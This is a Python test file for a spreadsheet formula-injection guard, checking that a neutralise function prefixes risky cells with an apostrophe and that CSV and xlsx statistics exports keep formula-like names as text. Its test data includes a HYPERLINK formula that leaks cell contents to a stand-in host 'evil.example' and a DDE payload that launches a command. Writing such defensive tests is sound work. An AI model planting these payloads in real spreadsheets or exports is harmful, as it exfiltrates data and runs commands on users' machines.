"""Formula injection: text cells that a spreadsheet would run get an apostrophe; everything else is left
alone."""

from __future__ import annotations

import pytest

from core.domain.spreadsheet import neutralise


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "＝1+1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(attack: str) -> None:
    assert neutralise(attack) == "'" + attack


@pytest.mark.parametrize("value", ["藤沢 太郎", "S1001", "2026-12-04", "", 5, -5, 1.5, None])
def test_other_cells_are_unchanged(value: object) -> None:
    assert neutralise(value) == value


def test_a_venue_named_like_a_formula_stays_text_in_statistics_exports() -> None:
    import io

    import openpyxl
    import pandas as pd

    from core.services.statistics import spreadsheet

    attack = '=HYPERLINK("http://evil.example/?"&A1,"本庁")'
    frame = pd.DataFrame({"月": ["2026-11", "2026-12"], attack: [12, 7], "備考": ["", "@集計中"]})
    csv_text = spreadsheet(frame, "csv", "t", "d").decode("utf-8-sig")
    assert csv_text.splitlines()[0] == '月,"\'=HYPERLINK(""http://evil.example/?""&A1,""本庁"")",備考'
    assert csv_text.splitlines()[2] == "2026-12,7,'@集計中"
    book = openpyxl.load_workbook(io.BytesIO(spreadsheet(frame, "xlsx", "t", "d")))
    cells = [cell for row in book["集計"].iter_rows() for cell in row]
    assert [c.data_type for c in cells if c.value == attack] == ["s"]  # the name as it is, but text
    assert not [c for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if isinstance(c.value, int)] == [12, 7]
